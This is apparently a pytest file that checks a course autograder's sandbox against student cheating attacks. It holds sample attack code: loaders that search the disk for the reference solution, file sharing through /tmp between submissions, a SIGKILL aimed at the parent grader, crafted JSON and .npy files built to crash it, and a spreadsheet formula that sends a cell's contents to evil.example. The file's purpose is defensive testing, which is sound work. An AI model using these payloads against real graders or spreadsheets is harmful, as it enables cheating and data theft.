"""More attacks of a student who wants points without work (round 3: the sandboxed grader).

tests/test_grader_attacks.py holds the attacks of issue 9 (patching the grader, crashes, limits,
links). These are the ones found against the child-process grader itself: reading the reference
from disk, passing code to another submission through a shared folder, the self-check's public
answers, answers that only pass because a check is loose, output files built to crash the grader
(which would lose the whole class's report), and reports forged through names and messages.
Each submission starts from the same fresh copies as there (im2col blank, relu solved).
"""

import csv
import io
import json
import os
import shutil
from pathlib import Path

import numpy as np
import pytest

from minivgg.assignment import make_assignment, sandbox
from minivgg.assignment.make import REFERENCE_ROOT
from minivgg.assignment.sandbox import Limits

grading = __import__("minivgg.assignment.grade", fromlist=["grade"])
# CPU seconds bound the work; the wall-clock limit is generous so that a loaded machine (a child
# waiting for a core) cannot turn a refused attack into a time-out and fail the test's message check
LIMITS = Limits(seconds=30, cpu=8, memory=512 << 20)


@pytest.fixture(params=["root", "user"])
def grader(request, monkeypatch):
    """How the grader runs: as root (children jailed: chroot, nobody), or as an ordinary user
    (children confined by Landlock; under root the grader is told it is not root)."""
    if request.param == "root" and os.geteuid() != 0:
        pytest.skip("the children are jailed only under root")
    if request.param == "user":
        if not sandbox.landlock_abi():
            pytest.skip("this kernel has no Landlock")
        monkeypatch.setattr(sandbox, "_user", lambda: None)
    return request.param


@pytest.fixture(scope="module")
def copies(tmp_path_factory):
    """(a blank copy, a copy with relu solved, a copy with im2col solved): starting points."""
    root = tmp_path_factory.mktemp("copies")
    make_assignment(root / "blank", only=["conv_direct", "im2col", "conv_layer", "relu", "dropout"])
    for name, file in (("relu", "layers/activation.py"), ("im2col", "kernels/naive.py")):
        shutil.copytree(root / "blank", root / name)
        shutil.copyfile(REFERENCE_ROOT / "minivgg" / file, root / name / "minivgg" / file)
    return root


def attacker(copies, tmp_path, append=None, name="attacker", start="relu",
             file="kernels/naive.py"):
    """A copy of ``start`` with ``append`` added at the end of ``file`` (so it can rebind the
    module's functions, im2col and col2im by default)."""
    sub = tmp_path / name
    shutil.copytree(copies / start, sub)
    if append is not None:
        with open(sub / "minivgg" / file, "a") as f:
            f.write("\n\n" + append.strip("\n") + "\n")
    return sub


def grade(subs, parts=("im2col", "relu"), **options):
    return grading.grade([Path(s) for s in subs], list(parts), limits=LIMITS, **options)


def points(report):
    return {r.part: r.points for r in report.results}


# ------------------------------------------------------------------------------------------------
# the reference, or another student's code, read from disk
# ------------------------------------------------------------------------------------------------

# The reference is installed somewhere a student can guess: Gradescope's /autograder/source,
# site-packages beside NumPy (whose real place the child's NumPy gives away), a course folder.
# This loads the first minivgg/kernels/naive.py there that is not a student's, without its
# package's __init__ (which imports Numba), and uses its im2col and col2im.
STEAL_FROM_DISK = """
def _stolen(guesses):
    import importlib, os, sys, types
    import numpy
    guesses = guesses + [os.path.dirname(os.path.dirname(os.path.realpath(numpy.__file__)))]
    for guess in guesses:
        for directory, dirs, files in os.walk(guess):
            dirs[:] = [d for d in dirs if not d.startswith(".") and d != "__pycache__"]
            if directory.count(os.sep) - guess.count(os.sep) > 3:
                dirs[:] = []
            path = os.path.join(directory, "minivgg", "kernels", "naive.py")
            try:
                with open(path) as f:
                    if "NotImplementedError" in f.read():
                        continue
            except OSError:
                continue
            for name in ("stolen", "stolen.kernels"):
                module = types.ModuleType(name)
                module.__path__ = [os.path.join(directory, "minivgg", *name.split(".")[1:])]
                sys.modules[name] = module
            return importlib.import_module("stolen.kernels.naive")
    raise ModuleNotFoundError("no reference found")


try:
    _reference = _stolen(GUESSES)
    im2col, col2im = _reference.im2col, _reference.col2im
except Exception:
    pass
"""


def test_the_reference_cannot_be_read_from_disk(copies, tmp_path, grader):
    guesses = [str(REFERENCE_ROOT), "/autograder/source", "/usr/local/lib", "/opt", "/srv"]
    sub = attacker(copies, tmp_path, STEAL_FROM_DISK.replace("GUESSES", repr(guesses)))
    report, blank = grade([sub, copies / "blank"])
    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
    assert report.results[0].message.startswith("not implemented yet")      # found nothing
    assert blank.score == 0


# Student A solved im2col; at import, A's code leaves a copy of A's file in the folders every
# process may write. B handed in nothing of their own: B's im2col loads A's file from there. A
# similarity check of the submissions finds nothing, yet B would earn A's points.
LEAVE = """
for _folder in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        with open(__file__) as _mine, open(_folder + "/.course-share.py", "w") as _shared:
            _shared.write(_mine.read())
    except OSError:
        pass
"""
TAKE = """
def _shared():
    import importlib.util
    import sys
    sys.dont_write_bytecode = True
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            spec = importlib.util.spec_from_file_location(f"{__package__}.shared",
                                                          folder + "/.course-share.py")
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            return module
        except Exception:
            pass


_module = _shared()
if _module is not None:
    im2col, col2im = _module.im2col, _module.col2im
"""


def test_a_submission_cannot_pass_code_to_the_next_through_shared_folders(copies, tmp_path,
                                                                          grader):
    helper = attacker(copies, tmp_path, LEAVE, name="a_helper", start="im2col")
    taker = attacker(copies, tmp_path, TAKE, name="b_taker")
    try:
        report_a, report_b = grade([helper, taker])
        assert points(report_a)["im2col"] == 15, str(report_a)        # A's own work counts
        assert points(report_b) == {"im2col": 0, "relu": 5}, str(report_b)
        assert report_b.results[0].message.startswith("not implemented yet")
    finally:
        for folder in ("/tmp", "/var/tmp", "/dev/shm"):
            Path(folder, ".course-share.py").unlink(missing_ok=True)
            for cache in Path(folder, "__pycache__").glob(".course-share.*"):
                cache.unlink()


def test_a_child_cannot_kill_the_grader(copies, tmp_path, grader):
    """The child's parent is the grader's fork server; killing it would have stopped the batch."""
    code = "def im2col(*args, **kwargs):\n    import os\n    os.kill(os.getppid(), 9)"   # SIGKILL
    report, blank = grade([attacker(copies, tmp_path, code), copies / "blank"])
    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
    assert "PermissionError" in report.results[0].message, str(report)
    assert blank.score == 0


def test_a_report_says_when_the_children_had_the_graders_rights(copies, monkeypatch):
    monkeypatch.setattr(sandbox, "_user", lambda: None)
    monkeypatch.setattr(sandbox, "landlock_abi", lambda: 0)
    (report,) = grade([copies / "blank"], parts=["relu"])
    assert any("ran with your rights" in note for note in report.notes), report.notes


# ------------------------------------------------------------------------------------------------
# the library's own code doing the part
# ------------------------------------------------------------------------------------------------

# The copy keeps the library's other convolutions (conv/direct.py: any kernel and padding, stride
# 1; conv/winograd.py), complete: they run the network in the notebooks. Taking every stride-th
# output of the stride-1 one is a strided convolution, forward and (spread back) backward.
BY_THE_LIBRARY = {
    "conv_direct": ("kernels/naive.py", """
def conv2d_direct(x, weight, bias, stride, padding):
    from .. import layers  # noqa: F401 (first, as the library does: conv/ alone is circular)
    from ..conv.direct import Direct
    y = Direct(tuple(weight.shape[2:]), (1, 1), tuple(padding), "naive").forward(x, weight, bias)
    return np.ascontiguousarray(y[:, :, ::stride[0], ::stride[1]])
"""),
    "conv_layer": ("conv/im2col.py", """
from .direct import Direct as _Direct


def _forward(self, x, weight, bias):
    self._direct = _Direct(self.kernel_size, (1, 1), self.padding, self.backend)
    full = self._direct.forward(x, weight, bias)
    self._x_shape, self._full = x.shape, full.shape
    return np.ascontiguousarray(full[:, :, ::self.stride[0], ::self.stride[1]])


def _backward(self, dy, weight, dweight, input_grad=True):
    full = np.zeros(self._full, dy.dtype)
    full[:, :, ::self.stride[0], ::self.stride[1]] = dy
    return self._direct.backward(full, weight, dweight, input_grad)


Im2col.forward, Im2col.backward = _forward, _backward
"""),
    # the Winograd kernels (kernels/winograd.py, 3x3 stride 1): any kernel is a sum of 3x3 blocks
    # of it on shifted inputs; 10/10 before kernels/winograd.py had a stand-in too
    "conv_direct by Winograd": ("kernels/naive.py", """
def conv2d_direct(x, weight, bias, stride, padding):
    import sys, types
    sys.modules.setdefault("fractions", types.SimpleNamespace(Fraction=float))  # not in the jail
    from .winograd import conv2d_winograd_naive
    (F, C, kh, kw), (ph, pw) = weight.shape, padding
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph + 3), (pw, pw + 3)))
    Ho, Wo, y = xp.shape[2] - 2 - kh, xp.shape[3] - 2 - kw, 0
    for i in range(0, kh, 3):
        for j in range(0, kw, 3):
            block = np.zeros((F, C, 3, 3))
            block[:, :, :min(3, kh - i), :min(3, kw - j)] = weight[:, :, i:i + 3, j:j + 3]
            y = y + conv2d_winograd_naive(xp[:, :, i:, j:], block, 0 * bias, 0, 2)[:, :, :Ho, :Wo]
    return y[:, :, ::stride[0], ::stride[1]] + bias.reshape(-1, 1, 1)
"""),
}


@pytest.mark.parametrize("name", sorted(BY_THE_LIBRARY))
def test_the_librarys_own_convolution_does_not_do_the_part(copies, tmp_path, name):
    (file, code), part = BY_THE_LIBRARY[name], name.split()[0]
    sub = attacker(copies, tmp_path, code, file=file)
    (report,) = grade([sub], parts=[part])
    assert report.score == 0, report.text(checks=True)
    assert "the library's own convolution" in report.results[0].message, str(report)


# ------------------------------------------------------------------------------------------------
# the self-check's public answers
# ------------------------------------------------------------------------------------------------

# The copy holds the reference's answers to the public inputs (minivgg/assignment/public/); the
# student packs them into a .py file of the submission. When the grader's inputs are the public
# ones, looking them up is enough.
LOOK_UP = """
def _answer(first, shape):
    import json
    import numpy
    from . import answers
    meta = json.loads(answers.META)
    arrays = {key: numpy.array(values, dtype).reshape(shape)
              for key, (dtype, shape, values) in answers.ARRAYS.items()}
    if True:
        for check, cases in meta.items():
            for i, case in enumerate(cases):
                key = f"{check}.{i}"
                if any(arrays[f"{key}.in.{name}"].shape == first.shape
                       and numpy.array_equal(arrays[f"{key}.in.{name}"], first)
                       for name in case["inputs"]):
                    for j in range(len(case["expects"])):
                        if f"{key}.e{j}" in arrays and arrays[f"{key}.e{j}"].shape == shape:
                            return arrays[f"{key}.e{j}"]
    raise NotImplementedError("not a public input")


def _fill(out, answer):
    if out is None:
        return answer
    out[...] = answer
    return out


def im2col(x, kernel, stride, padding, out=None):
    from ..shapes import output_size
    (kh, kw), (sh, sw), (ph, pw) = kernel, stride, padding
    P = output_size(x.shape[2], kh, sh, ph) * output_size(x.shape[3], kw, sw, pw)
    return _fill(out, _answer(x, (x.shape[0], x.shape[1] * kh * kw, P)))


def col2im(cols, x_shape, kernel, stride, padding, out=None):
    return _fill(out, _answer(cols, tuple(x_shape)))
"""


def test_the_public_answers_are_not_the_graders_even_with_seed_0(tmp_path):
    """An instructor who fixes the seed to 0 (the self-check's) must not hand out the answers:
    the grader draws from another stream than the public cases."""
    sub = tmp_path / "attacker"                 # conv_direct first: im2col is part 1 of both lists
    make_assignment(sub, only=["conv_direct", "im2col"])
    with open(sub / "minivgg/kernels/naive.py", "a") as f:
        f.write(LOOK_UP)
    public = sub / "minivgg/assignment/public"
    with np.load(public / "im2col.npz") as arrays:           # numbers as Python literals
        packed = {key: (a.dtype.str, a.shape, a.ravel().tolist()) for key, a in arrays.items()}
    (sub / "minivgg/kernels/answers.py").write_text(
        f"META = {(public / 'im2col.json').read_text()!r}\nARRAYS = {packed!r}\n"
        .replace("nan", "float('nan')"))
    from minivgg.assignment.selfcheck import check
    assert points(check(sub, ["im2col"])) == {"im2col": 15}     # the lookup works on public inputs
    (report,) = grade([sub], parts=["im2col"], seed=0)
    assert points(report) == {"im2col": 0}, str(report)
    assert "not a public input" in report.results[0].message


# ------------------------------------------------------------------------------------------------
# answers that pass a loose check
# ------------------------------------------------------------------------------------------------

# Dropout is judged by its properties (any way of drawing the mask is right). A constant that
# has those properties, or a fixed pattern that ignores the layer's generator, is not dropout.
DROPOUT_REAL = """
def _forward(self, x):
    if not self.training or self.p == 0.0:
        self._draws = ()
        return x
    self._draws = self.rng.random(x.shape).astype(x.dtype)
    return self._apply(x)


def _apply(self, a):
    return (a * (self._draws >= self.p) / (1 - self.p)).astype(a.dtype)


Dropout.forward, Dropout._apply = _forward, _apply
"""


DROPOUT_FAKES = {
    # a few numbers kept at 1 / (1 - p) and one dropped: the right fraction, not x's shape
    "constant": """
def _forward(self, x):
    if not self.training or self.p == 0.0:
        self._draws = ()
        return x
    self._draws = np.ones(x.shape)
    return self._apply(x)


def _apply(self, a):
    kept = round(1 / self.p) - 1 if self.p <= 0.5 else 1
    return np.array([1 / (1 - self.p)] * kept + [0.0] * round(kept * self.p / (1 - self.p)),
                    dtype=a.dtype)


Dropout.forward, Dropout._apply = _forward, _apply
""",
    # every k-th unit dropped, the same units for every seed and every call
    "pattern": """
def _forward(self, x):
    if not self.training or self.p == 0.0:
        self._draws = ()
        return x
    every = round(1 / self.p)
    self._draws = (np.arange(x.size).reshape(x.shape) % every != 0).astype(x.dtype)
    return self._apply(x)


def _apply(self, a):
    return (a * (self._draws >= self.p) / (1 - self.p)).astype(a.dtype)


Dropout.forward, Dropout._apply = _forward, _apply
""",
    # a mask from a generator of its own, seeded once: not the layer's self.rng
    "own_generator": """
_OWN = np.random.default_rng(2024)


def _forward(self, x):
    if not self.training or self.p == 0.0:
        self._draws = ()
        return x
    state = _OWN.bit_generator.state
    self._draws = _OWN.random(x.shape).astype(x.dtype)
    _OWN.bit_generator.state = state           # the same mask again: the twin agrees
    return self._apply(x)


def _apply(self, a):
    return (a * (self._draws >= self.p) / (1 - self.p)).astype(a.dtype)


Dropout.forward, Dropout._apply = _forward, _apply
""",
}
# the mask, scaled, that forgets what it masks: right on inputs of ones, forward and backward
DROPOUT_FAKES["ignores_x"] = DROPOUT_REAL.replace("(a * (self._draws", "((self._draws")
DROPOUT_CAUGHT = {"constant": "has shape (2,); expected x's shape (200, 500)",
                  "ignores_x": "a kept unit must be x divided by 1 - p",
                  "pattern": "some rows or columns keep far more or fewer units",
                  "own_generator": "a second forward pass: dropped the same units again"}


@pytest.mark.parametrize("fake", sorted(DROPOUT_FAKES))
def test_dropout_that_is_not_dropout_earns_nothing(copies, tmp_path, fake):
    sub = attacker(copies, tmp_path, "import numpy as np\n" + DROPOUT_FAKES[fake],
                   file="layers/dropout.py")
    honest = attacker(copies, tmp_path, "import numpy as np\n" + DROPOUT_REAL, name="honest",
                      file="layers/dropout.py")
    report, fair = grade([sub, honest], parts=["dropout"])
    assert points(report) == {"dropout": 0}, report.text(checks=True)
    assert DROPOUT_CAUGHT[fake] in report.results[0].message, report.results[0].message
    assert points(fair) == {"dropout": 10}, fair.text(checks=True)    # any honest way still passes


# ------------------------------------------------------------------------------------------------
# files built to crash the grader: one student's output must never cost the class its report
# ------------------------------------------------------------------------------------------------

def planted(result=None, arrays=None):
    """im2col code that writes the child's result.json (text) and .npy files (name -> bytes) for
    every group itself, then leaves."""
    return f"""
def im2col(x, kernel, stride, padding, out=None):
    import os
    out_dir = os.path.join(os.environ["TMPDIR"], "..", "out")
    for group in range(40):
        os.makedirs(os.path.join(out_dir, f"g{{group}}"), exist_ok=True)
        for name, data in {arrays or {}!r}.items():
            with open(os.path.join(out_dir, f"g{{group}}", name + ".npy"), "wb") as f:
                f.write(data)
    if {result!r} is not None:
        with open(os.path.join(out_dir, "result.json"), "w") as f:
            f.write({result!r})
    os._exit(0)
"""


def npy(header, data=b""):
    """A .npy file with this header dict (as text), whatever it says."""
    text = header.encode("latin1")
    text += b" " * (63 - (10 + len(text)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text + data


def npy_of(array):
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


every_group = [{"group": g, "saved": ["cols", "dx", "buffer", "dbuffer"]} for g in range(40)]
PLANTED = {
    # the parent's JSON parser recursing into a 4 MiB nest of lists
    "deeply_nested_result": dict(result="[" * 200_000 + "]" * 200_000),
    # entries whose fields have the wrong types: a list as a group number, a dict as saved names
    "mistyped_result": dict(result=json.dumps([{"group": [0], "saved": {"cols": 1}},
                                               {"group": {"a": 1}}, {"group": 1e400},
                                               {"group": 0, "saved": "cols", "error": [1]}])),
    # a header that claims 2**40 float64s over 80 bytes of data
    "npy_claims_8_tib": dict(result=json.dumps(every_group), arrays={"cols": npy(
        "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }", b"\0" * 80)}),
    # a header too long, a pickled object, a structured and a complex array, a zip (npz)
    "npy_odd_files": dict(result=json.dumps(every_group), arrays={
        "cols": npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), " + " " * 20000 + "}",
                    b"\0" * 8),
        "dx": npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", b"\x80\x04N."),
        "buffer": npy_of(np.zeros(3, dtype=[("a", "<f8")])),
        "dbuffer": b"PK\x03\x04" + b"\0" * 100}),
    # complex numbers whose real part could be right
    "npy_complex": dict(result=json.dumps(every_group), arrays={
        name: npy_of(np.zeros((2, 27, 49), complex)) for name in ("cols", "dx")}),
    # the numbers every comparison might trip on: NaN, -0.0, inf, in Fortran order
    "npy_nan_and_negative_zero": dict(result=json.dumps(every_group), arrays={
        name: npy_of(np.asfortranarray(np.full((2, 27, 49), value)))
        for name, value in (("cols", np.nan), ("dx", -0.0), ("buffer", np.inf),
                            ("dbuffer", -np.inf))}),
}


@pytest.mark.parametrize("plant", sorted(PLANTED))
def test_planted_output_files_cost_nothing_but_the_part(copies, tmp_path, plant):
    sub = attacker(copies, tmp_path, planted(**PLANTED[plant]))
    report, blank = grade([sub, copies / "blank"])
    assert points(report) == {"im2col": 0, "relu": 5}, str(report)
    assert blank.score == 0


def test_a_deeply_nested_submission_is_refused_with_a_message(copies, tmp_path):
    sub = attacker(copies, tmp_path)
    deep = sub / "minivgg"
    os.chdir(deep)                                    # relative steps: paths stay short
    try:
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        Path("deep.py").write_text("x = 1\n")
    finally:
        os.chdir(tmp_path)
    try:
        report, blank = grade([sub, copies / "blank"])
    finally:
        remove_deep(deep)
    assert report.score == 0 and blank.score == 0
    assert "nested" in report.results[0].message, str(report)


def remove_deep(top):
    """rmtree recurses once per level: remove the chain of d/ folders from the bottom up."""
    path = top
    while (path / "d").is_dir():
        path = path / "d"
    (path / "deep.py").unlink(missing_ok=True)
    while path != top:
        path.rmdir()
        path = path.parent


# ------------------------------------------------------------------------------------------------
# reports forged through names and messages
# ------------------------------------------------------------------------------------------------

FORMULA = """
def im2col(x, kernel, stride, padding, out=None):
    raise type("=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"ok\\")", (Exception,), {})("\\n15/15")
"""


def test_csv_and_text_reports_cannot_be_forged_by_names_and_messages(copies, tmp_path):
    sub = attacker(copies, tmp_path, FORMULA, name="=1+1\ntotal   130")
    report, blank = grade([sub, copies / "blank"])
    assert points(report) == {"im2col": 0, "relu": 5}
    text = report.text(checks=True)
    assert "\ntotal   130" not in text and text.count("\ntotal") == 1, text
    rows = list(csv.reader(io.StringIO(grading.csv_text([report, blank]))))
    for row in rows[1:]:
        for cell in (row[0], row[1], row[5]):         # what a spreadsheet could run as a formula
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert {len(row) for row in rows} == {6}
    gradescope = json.loads(grading.gradescope_json(report))
    assert gradescope["score"] == 5 and sum(t["score"] for t in gradescope["tests"]) == 5
